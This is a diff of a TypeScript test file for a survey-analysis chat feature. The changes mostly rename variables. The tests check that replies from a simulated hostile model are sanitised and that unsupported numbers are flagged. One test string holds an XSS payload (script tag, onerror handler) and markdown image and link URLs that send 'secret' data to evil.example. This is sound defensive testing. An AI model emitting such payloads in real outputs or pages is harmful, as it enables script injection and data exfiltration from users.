@@ -9,18 +9,18 @@ import { startFakeLanguageServer } from '../../support/fake-language-server.ts';
 
 const model = await startFakeLanguageServer();
 const test = useApp({ OPENAI_BASE_URL: model.url, OPENAI_MODEL: 'fake-model' });
-const home = useOrganization(test);
+const organization = useOrganization(test);
 let surveyId: number;
 
 beforeAll(async () => {
-  ({ surveyId } = await createChatSurvey(test, home.admin));
+  ({ surveyId } = await createChatSurvey(test, organization.admin));
 });
 afterAll(() => model.close());
 beforeEach(() => model.reset());
 
-const ask = (message: string) => askAndWait(home.admin, { message, survey_id: surveyId });
+const sendMessage = (message: string) => askAndWait(organization.admin, { message, survey_id: surveyId });
 const storedAnswer = async (sessionId: string) =>
-  (await home.admin.get(`/api/ai/sessions/${sessionId}`).expect(200)).body.data.messages.at(-1) as {
+  (await organization.admin.get(`/api/ai/sessions/${sessionId}`).expect(200)).body.data.messages.at(-1) as {
     content: string;
     unsupported_numbers: string[];
   };
@@ -33,7 +33,7 @@ describe('the reply of a hostile model', () => {
         'Fine <script>fetch("https://evil.example")</script><img src=x onerror=alert(1)> people. ' +
         '![p](https://evil.example/p.png?d=secret) See [details](https://evil.example/?d=secret) or www.evil.example';
       model.reply([{ content, charactersPerChunk }]);
-      const { text, done } = await ask('How are they?');
+      const { text, done } = await sendMessage('How are they?');
       expect(text).not.toMatch(/<|evil|\]\(|!\[/);
       expect(text).toContain('See details or (link removed)');
       expect((await storedAnswer(done.session_id)).content).toBe(text);
@@ -45,7 +45,7 @@ describe('the reply of a hostile model', () => {
       { calls: [{ name: 'get_distribution', arguments: { question_code: 'Sat' } }] },
       { content: '50 % of the 80 say very good, and 93 % would pay 17.35 more.', charactersPerChunk },
     ]);
-    const { text, done } = await ask('How satisfied are they?');
+    const { text, done } = await sendMessage('How satisfied are they?');
     expect(text).toBe(
       '50 % of the 80 say very good, and 93 % [unsupported] would pay 17.35 [unsupported] more.',
     );
@@ -58,7 +58,7 @@ describe('the reply of a hostile model', () => {
 
   it('has every number marked without a query, including numbers of the question', async () => {
     model.reply([{ content: 'Yes, 64 % of 500 agree.' }]);
-    const { text, done } = await ask('Is it true that 64 % agree?');
+    const { text, done } = await sendMessage('Is it true that 64 % agree?');
     expect(text).toBe('Yes, 64 % [unsupported] of 500 [unsupported] agree.');
     expect(done.unsupported_numbers).toEqual(['64', '500']);
   });
@@ -68,7 +68,7 @@ describe('the reply of a hostile model', () => {
       { calls: [{ name: 'get_verbatims', arguments: { question_code: 'Why', limit: 2 } }] },
       { content: 'In all 77 % agree.' },
     ]);
-    const { done } = await ask('What do they say?');
+    const { done } = await sendMessage('What do they say?');
     expect(done.unsupported_numbers).toEqual(['77']);
   });
 });
@@ -88,7 +88,8 @@ describe('the built-in chat', () => {
     'Does anybody mention bitter?',
   ])('has a figure for every number: %s', async (message) => {
     const builtIn = anonymous(appOn(test.database));
-    const post: Actor['post'] = (path, body) => builtIn.post(path, body).set('X-API-Key', home.admin.apiKey!);
+    const post: Actor['post'] = (path, body) =>
+      builtIn.post(path, body).set('X-API-Key', organization.admin.apiKey!);
     const { text, done } = await askAndWait({ ...builtIn, post }, { message, survey_id: surveyId });
     expect(done.figures.length).toBeGreaterThan(0);
     expect(done.unsupported_numbers).toEqual([]);
